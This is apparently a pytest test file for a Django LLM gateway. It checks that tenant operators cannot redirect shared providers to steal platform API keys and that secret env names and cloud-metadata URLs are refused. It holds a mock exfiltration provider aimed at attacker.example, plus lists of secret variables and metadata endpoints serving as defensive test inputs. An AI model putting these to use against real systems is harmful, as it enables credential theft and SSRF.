"""Two kinds of operator: tenant operators cannot touch the shared provider registry (the key
exfiltration of issue #13 fails at every step), platform administrators can, with keys stored
encrypted, write-only and live without a restart; outbound URLs obey the egress policy.

Each rule is proved over the API and in the admin.
"""

from __future__ import annotations

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.urls import reverse

from apps.console.roles import OPERATORS, PLATFORM_ADMINS, roles_sync
from apps.core.crypto import decrypt_secret
from apps.providers import egress
from apps.providers.models import Provider
from apps.providers.services import breaker_snapshot
from tests.providers.factories import make_provider
from tests.support import bearer_client

pytestmark = pytest.mark.django_db

URL = "/api/v1/providers/"
PLATFORM_KEY = "sk-platform-REAL-key-0123456789"
STORED_KEY = "sk-stored-in-db-9876543210abcdef"
EXFIL = {
    "name": "exfil",
    "kind": "openai_compatible",
    "base_url": "http://attacker.example/v1",
    "model": "m",
    "api_key_env": "FAKELLM_API_KEY",
}
FORBIDDEN_ENV = [
    "SECURITY_AUDIT_SPOOL_REDIS_URL",
    "OTEL_EXPORTER_OTLP_HEADERS",
    "SECRET_KEY",
    "DATABASE_URL",
    "SECRETS_ENCRYPTION_KEYS",
    "HOME",
]
FORBIDDEN_URLS = [
    "http://169.254.169.254/latest/meta-data",
    "http://metadata.google.internal/computeMetadata/v1",
    "http://[fd00:ec2::254]/v1",
    "http://[fe80::1]/v1",
    "http://[::ffff:169.254.169.254]/v1",
]


def chat(client, model: str):
    return client.post(
        "/v1/chat/completions",
        {"model": model, "messages": [{"role": "user", "content": "hello"}]},
        format="json",
    )


@pytest.fixture(autouse=True)
def _fresh_dns():
    egress.forget_resolutions()
    yield
    egress.forget_resolutions()


@pytest.fixture
def platform_secret(monkeypatch):
    monkeypatch.setenv("FAKELLM_API_KEY", PLATFORM_KEY)


@pytest.fixture
def shared(fakellm, platform_secret, django_capture_on_commit_callbacks):
    """The platform's provider in front of fakellm, keyed by the platform's variable."""
    with django_capture_on_commit_callbacks(execute=True):
        return make_provider(
            "shared", base_url=fakellm.base_url, api_key_env="FAKELLM_API_KEY", is_default=True
        )


# --- API: the exfiltration fails at every step for a tenant operator ----------------------------


def test_tenant_operator_cannot_create_a_provider(operator_client, shared, fakellm):
    response = operator_client.post(URL, EXFIL, format="json")
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "permission_denied"
    assert not Provider.objects.filter(name="exfil").exists()
    # routing to the name afterwards is an unknown model: nothing is sent anywhere
    response = chat(operator_client, "exfil")
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "model_not_found"
    assert fakellm.requests() == []


@pytest.mark.parametrize(
    "change",
    [
        {"base_url": "http://attacker.example/v1"},
        {"api_key_env": "OPENAI_API_KEY"},
        {"api_key": "sk-attacker"},
        {"enabled": False},
        {"fallbacks": []},
    ],
)
def test_tenant_operator_cannot_edit_a_shared_provider(operator_client, shared, change):
    response = operator_client.patch(f"{URL}{shared.pk}", change, format="json")
    assert response.status_code == 403
    after = Provider.objects.get(pk=shared.pk)
    assert (after.base_url, after.api_key_env, after.api_key_ciphertext, after.enabled) == (
        shared.base_url,
        "FAKELLM_API_KEY",
        "",
        True,
    )


@pytest.mark.parametrize(
    "action", ["breaker/force-open", "breaker/disable", "breaker/reset", "test"]
)
def test_tenant_operator_cannot_operate_shared_breakers(operator_client, shared, action):
    response = operator_client.post(f"{URL}{shared.pk}/{action}")
    assert response.status_code == 403
    assert breaker_snapshot(provider=shared).state.value == "closed"


def test_tenant_operator_still_reads_the_registry_without_secrets(operator_client, shared):
    listing = operator_client.get(URL)
    assert listing.status_code == 200
    assert PLATFORM_KEY not in listing.content.decode()
    assert operator_client.get(f"{URL}{shared.pk}/breaker").status_code == 200


def test_tenant_operator_cannot_mint_a_platform_admin_key(operator_client):
    response = operator_client.post(
        "/api/v1/tenants/keys", {"name": "x", "is_platform_admin": True}, format="json"
    )
    assert response.status_code == 201
    assert response.json()["is_platform_admin"] is False
    minted = bearer_client(response.json()["key"])
    assert minted.post(URL, EXFIL, format="json").status_code == 403


def test_whoami_tells_the_kind_of_operator(operator_client, platform_client):
    assert operator_client.get("/api/v1/tenants/me").json()["is_platform_admin"] is False
    assert platform_client.get("/api/v1/tenants/me").json()["is_platform_admin"] is True


# --- API: what platform administrators may (not) do ----------------------------------------------


@pytest.mark.parametrize("name", FORBIDDEN_ENV)
def test_platform_admin_cannot_name_a_platform_variable(platform_client, name):
    response = platform_client.post(URL, {**EXFIL, "api_key_env": name}, format="json")
    assert response.status_code == 400, response.json()
    assert response.json()["error"]["code"] == "validation_error"
    assert not Provider.objects.filter(name="exfil").exists()


@pytest.mark.parametrize("url", FORBIDDEN_URLS)
def test_link_local_and_metadata_urls_are_refused(platform_client, url):
    response = platform_client.post(URL, {**EXFIL, "base_url": url}, format="json")
    assert response.status_code == 400, response.json()
    assert not Provider.objects.filter(name="exfil").exists()


def test_allow_list_is_enforced_at_save_and_at_call_time(
    platform_client, tenant_client, shared, fakellm, settings
):
    settings.PROVIDER_URL_ALLOWLIST = ["api.openai.com", "*.example.org", "10.0.0.0/8"]
    assert platform_client.post(URL, EXFIL, format="json").status_code == 400
    ok = {**EXFIL, "name": "ok", "base_url": "https://llm.example.org/v1", "api_key_env": ""}
    assert platform_client.post(URL, ok, format="json").status_code == 201
    # the provider saved before the list was tightened is refused before any byte leaves
    response = chat(tenant_client, "shared")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "provider_misconfigured"
    assert PLATFORM_KEY not in response.content.decode()
    assert fakellm.requests() == []
    settings.PROVIDER_URL_ALLOWLIST = ["127.0.0.1"]
    assert chat(tenant_client, "shared").status_code == 200


def test_a_host_name_resolving_to_a_denied_address_is_refused_at_call_time(
    tenant_client, fakellm, settings, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        make_provider("named", base_url=fakellm.base_url.replace("127.0.0.1", "localhost"))
    assert chat(tenant_client, "named").status_code == 200
    # "localhost" passes the save-time check (a name); its address is judged per call
    settings.PROVIDER_URL_DENYLIST = [*settings.PROVIDER_URL_DENYLIST, "127.0.0.0/8", "::1/128"]
    egress.forget_resolutions()
    before = len(fakellm.requests())
    response = chat(tenant_client, "named")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "provider_misconfigured"
    assert len(fakellm.requests()) == before


def test_a_platform_variable_saved_before_the_rules_is_refused_at_call_time(
    tenant_client, fakellm, monkeypatch, django_capture_on_commit_callbacks
):
    """A provider written before this release (by anyone) naming SECRET_KEY sends nothing."""
    monkeypatch.setenv("SECRET_KEY", PLATFORM_KEY)
    with django_capture_on_commit_callbacks(execute=True):
        legacy = make_provider("legacy", base_url=fakellm.base_url)
        Provider.objects.filter(pk=legacy.pk).update(api_key_env="SECRET_KEY")  # no validation
        from apps.providers.services import providers_changed

        providers_changed()
    response = chat(tenant_client, "legacy")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "provider_misconfigured"
    assert PLATFORM_KEY not in response.content.decode()
    assert fakellm.requests() == []


def test_platform_admin_stores_a_key_write_only_and_it_is_used_live(
    platform_client, tenant_client, fakellm, django_capture_on_commit_callbacks
):
    body = {
        "name": "own",
        "kind": "openai_compatible",
        "base_url": fakellm.base_url,
        "model": "fakellm-1",
        "api_key": STORED_KEY,
        "max_attempts": 1,
    }
    with django_capture_on_commit_callbacks(execute=True):
        created = platform_client.post(URL, body, format="json")
    assert created.status_code == 201, created.json()
    assert STORED_KEY not in created.content.decode()
    assert created.json()["api_key_source"] == "stored"
    assert "api_key" not in created.json()
    row = Provider.objects.get(name="own")
    assert STORED_KEY not in str(Provider.objects.filter(pk=row.pk).values()[0])
    assert decrypt_secret(row.api_key_ciphertext) == STORED_KEY

    fakellm.set(api_key=STORED_KEY)  # the fake upstream answers 401 to any other key
    assert chat(tenant_client, "own").status_code == 200
    assert fakellm.requests()[-1]["headers"]["authorization"] == f"Bearer {STORED_KEY}"
    from apps.core.secrets import known_secret_values

    assert STORED_KEY in known_secret_values()  # the log redactor hides it from here on

    rotated = STORED_KEY + "-v2"
    with django_capture_on_commit_callbacks(execute=True):
        patched = platform_client.patch(f"{URL}{row.pk}", {"api_key": rotated}, format="json")
    assert patched.status_code == 200
    assert rotated not in patched.content.decode()
    fakellm.set(api_key=rotated)
    assert chat(tenant_client, "own").status_code == 200  # no restart: the live snapshot moved
    assert fakellm.requests()[-1]["headers"]["authorization"] == f"Bearer {rotated}"
    assert rotated not in platform_client.get(f"{URL}{row.pk}").content.decode()


def test_rotate_secrets_re_encrypts_with_the_newest_key(settings):
    from cryptography.fernet import Fernet

    old = settings.SECRETS_ENCRYPTION_KEYS[0]
    provider = make_provider("rot", kind="offline", api_key=STORED_KEY)
    before = Provider.objects.get(pk=provider.pk).api_key_ciphertext
    new = Fernet.generate_key().decode()
    settings.SECRETS_ENCRYPTION_KEYS = [new, old]
    call_command("rotate_secrets")
    after = Provider.objects.get(pk=provider.pk).api_key_ciphertext
    assert after != before
    settings.SECRETS_ENCRYPTION_KEYS = [new]  # the old key can go now
    assert decrypt_secret(after) == STORED_KEY


def test_a_stored_key_nobody_can_decrypt_is_a_typed_503_not_a_leak(
    tenant_client, fakellm, settings, django_capture_on_commit_callbacks
):
    from cryptography.fernet import Fernet

    with django_capture_on_commit_callbacks(execute=True):
        make_provider("lost", base_url=fakellm.base_url, api_key=STORED_KEY, max_attempts=1)
    settings.SECRETS_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
    from apps.providers.selectors import live_providers

    live_providers.invalidate()
    response = chat(tenant_client, "lost")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "provider_misconfigured"
    assert fakellm.requests() == []


# --- admin ------------------------------------------------------------------------------------


def _staff(client, django_user_model, name: str, group: str):
    roles_sync()
    user = django_user_model.objects.create_user(
        name, password="a-long-test-password", is_staff=True
    )
    user.groups.add(Group.objects.get(name=group))
    client.force_login(user)
    return client


@pytest.fixture
def operator_admin(client, django_user_model):
    return _staff(client, django_user_model, "op", OPERATORS)


@pytest.fixture
def platform_admin(client, django_user_model):
    return _staff(client, django_user_model, "plat", PLATFORM_ADMINS)


def provider_form(**fields) -> dict[str, str]:
    return {
        "name": "adm",
        "kind": "openai_compatible",
        "base_url": "",
        "model": "fakellm-1",
        "api_key": "",
        "api_key_env": "",
        "connect_timeout": "5",
        "read_timeout": "10",
        "max_attempts": "1",
        "backoff_initial": "0.01",
        "backoff_max": "0.05",
        "jitter": "0",
        "retry_after_cap": "10",
        "enabled": "on",
        "supports_tools": "on",
        "breaker_config-TOTAL_FORMS": "1",
        "breaker_config-INITIAL_FORMS": "0",
        "breaker_config-MIN_NUM_FORMS": "1",
        "breaker_config-MAX_NUM_FORMS": "1",
        "breaker_config-0-mode": "auto",
        "breaker_config-0-failure_threshold": "5",
        "breaker_config-0-failure_rate_threshold": "0.5",
        "breaker_config-0-window_size": "20",
        "breaker_config-0-minimum_calls": "10",
        "breaker_config-0-open_duration": "30",
        "breaker_config-0-half_open_max_calls": "1",
        "fallback_links-TOTAL_FORMS": "0",
        "fallback_links-INITIAL_FORMS": "0",
        **fields,
    }


def test_admin_operator_cannot_add_edit_or_trip_shared_providers(operator_admin, shared):
    add = reverse("admin:providers_provider_add")
    assert operator_admin.get(add).status_code == 403
    response = operator_admin.post(add, provider_form(**EXFIL))
    assert response.status_code == 403
    assert not Provider.objects.filter(name="exfil").exists()

    change = reverse("admin:providers_provider_change", args=[shared.pk])
    page = operator_admin.get(change)
    assert page.status_code == 200  # read-only view
    assert 'name="base_url"' not in page.content.decode()
    response = operator_admin.post(change, provider_form(name="shared", base_url="http://x/v1"))
    assert response.status_code == 403
    assert Provider.objects.get(pk=shared.pk).base_url == shared.base_url

    operator_admin.post(
        reverse("admin:providers_provider_changelist"),
        {"action": "force_open_breakers", "_selected_action": [shared.pk]},
    )
    assert breaker_snapshot(provider=shared).state.value == "closed"
    test = reverse("admin:providers_provider_test_connection", args=[shared.pk])
    assert operator_admin.post(test).status_code == 403


def test_admin_operator_cannot_grant_platform_admin(operator_admin, tenant_key):
    change = reverse("admin:tenants_apikey_change", args=[tenant_key.api_key.pk])
    response = operator_admin.post(change, {"name": "x", "is_platform_admin": "on"})
    assert response.status_code == 403
    tenant_key.api_key.refresh_from_db()
    assert not tenant_key.api_key.is_platform_admin


def test_only_a_superuser_can_flip_the_platform_admin_switch(
    admin_client, client, django_user_model, tenant_key
):
    from django.contrib.auth.models import Permission

    change = reverse("admin:tenants_apikey_change", args=[tenant_key.api_key.pk])
    assert 'name="is_platform_admin"' in admin_client.get(change).content.decode()

    staff = django_user_model.objects.create_user(
        "keys", password="a-long-test-password", is_staff=True
    )
    staff.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_apikey", "change_apikey"])
    )
    client.force_login(staff)
    page = client.get(change).content.decode()
    assert 'name="name"' in page  # may edit the key...
    assert 'name="is_platform_admin"' not in page  # ...but not make it a platform admin
    client.post(change, {"name": "renamed", "is_platform_admin": "on"})
    tenant_key.api_key.refresh_from_db()
    assert not tenant_key.api_key.is_platform_admin


@pytest.mark.parametrize("name", FORBIDDEN_ENV)
def test_admin_refuses_platform_variables(platform_admin, name):
    response = platform_admin.post(
        reverse("admin:providers_provider_add"),
        provider_form(base_url="https://api.example.com/v1", api_key_env=name),
    )
    assert response.status_code == 200
    assert "api_key_env" in response.context["adminform"].form.errors
    assert not Provider.objects.filter(name="adm").exists()


@pytest.mark.parametrize("url", FORBIDDEN_URLS)
def test_admin_refuses_metadata_urls(platform_admin, url):
    response = platform_admin.post(
        reverse("admin:providers_provider_add"), provider_form(base_url=url)
    )
    assert response.status_code == 200
    assert "base_url" in response.context["adminform"].form.errors


def test_admin_platform_admin_adds_a_keyed_provider_and_uses_it_without_restart(
    platform_admin, tenant_client, fakellm, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = platform_admin.post(
            reverse("admin:providers_provider_add"),
            provider_form(base_url=fakellm.base_url, api_key=STORED_KEY),
        )
    assert response.status_code == 302, response.context["adminform"].form.errors
    provider = Provider.objects.get(name="adm")
    assert provider.api_key_ciphertext
    assert STORED_KEY not in provider.api_key_ciphertext

    page = platform_admin.get(reverse("admin:providers_provider_change", args=[provider.pk]))
    html = page.content.decode()
    assert STORED_KEY not in html
    assert "set (stored encrypted)" in html

    fakellm.set(api_key=STORED_KEY)
    answer = chat(tenant_client, "adm")
    assert answer.status_code == 200, answer.json()
    assert fakellm.requests()[-1]["headers"]["authorization"] == f"Bearer {STORED_KEY}"

    # saving the form again with the key field empty keeps the key; "remove" clears it
    change = reverse("admin:providers_provider_change", args=[provider.pk])
    keep = provider_form(base_url=fakellm.base_url, **{"breaker_config-INITIAL_FORMS": "1"})
    keep["breaker_config-0-id"] = str(provider.breaker_config.pk)
    keep["breaker_config-0-provider"] = str(provider.pk)
    with django_capture_on_commit_callbacks(execute=True):
        assert platform_admin.post(change, keep).status_code == 302
    assert chat(tenant_client, "adm").status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        assert platform_admin.post(change, {**keep, "clear_api_key": "on"}).status_code == 302
    assert Provider.objects.get(pk=provider.pk).api_key_ciphertext == ""
    assert "not set" in platform_admin.get(change).content.decode()
    assert chat(tenant_client, "adm").status_code == 502  # fakellm answers 401 without the key
    assert "authorization" not in fakellm.requests()[-1]["headers"]
